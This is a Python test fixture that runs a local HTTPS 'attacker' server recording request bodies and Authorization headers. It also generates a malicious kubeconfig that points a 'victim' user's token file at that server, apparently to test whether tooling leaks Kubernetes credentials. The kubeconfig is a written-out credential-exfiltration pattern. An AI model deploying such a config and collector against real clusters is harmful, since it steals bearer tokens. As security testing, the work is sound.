"""A recording HTTPS server on 127.0.0.1: what a repository's author would run to collect.

It answers every request with a 404 Status (so a client carries on as with a cluster
without the operator) and records, per request, the method, path, body and the
`Authorization` header (these are planted test secrets, never real ones). It also counts
TLS connections that were accepted, so "no request" also means "not even a handshake".
"""

from __future__ import annotations

import json
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import trustme


@dataclass
class Seen:
    method: str
    path: str
    body: bytes
    authorization: str | None
    headers: dict[str, str]


@dataclass
class Attacker:
    url: str
    ca_pem: bytes
    requests: list[Seen] = field(default_factory=list)
    connections: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def everything(self) -> str:
        with self.lock:
            return "\n".join(
                f"{r.method} {r.path} {r.authorization} {r.body!r} {r.headers}"
                for r in self.requests
            )


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _any(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        rec = self.server.record
        with rec.lock:
            rec.requests.append(
                Seen(
                    self.command,
                    self.path,
                    body,
                    self.headers.get("Authorization"),
                    {k.lower(): v for k, v in self.headers.items()},
                )
            )
        payload = json.dumps(
            {"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 404}
        ).encode()
        self.send_response(404)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = do_POST = do_PUT = _any


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def __init__(self, record: Attacker, ctx: ssl.SSLContext) -> None:
        self.record = record
        self.ctx = ctx
        super().__init__(("127.0.0.1", 0), _Handler)

    def get_request(self) -> tuple[Any, Any]:
        sock, addr = super().get_request()
        with self.record.lock:
            self.record.connections += 1
        return self.ctx.wrap_socket(sock, server_side=True), addr


@contextmanager
def attacker_server() -> Iterator[Attacker]:
    ca = trustme.CA()
    cert = ca.issue_cert("127.0.0.1", "localhost")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    cert.configure_cert(ctx)
    record = Attacker("", ca.cert_pem.bytes())
    server = _Server(record, ctx)
    record.url = f"https://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield record
    finally:
        server.shutdown()
        server.server_close()


def attacker_kubeconfig(attacker: Attacker, token_file: Path) -> str:
    """A kubeconfig that sends `token_file`'s content to the attacker as a bearer token."""
    import base64

    ca = base64.b64encode(attacker.ca_pem).decode()
    return (
        "apiVersion: v1\nkind: Config\n"
        f"clusters:\n- name: evil\n  cluster:\n    server: {attacker.url}\n"
        f"    certificate-authority-data: {ca}\n"
        f"users:\n- name: victim\n  user:\n    tokenFile: {token_file}\n"
        "contexts:\n- name: evil\n  context: {cluster: evil, user: victim}\n"
        "current-context: evil\n"
    )
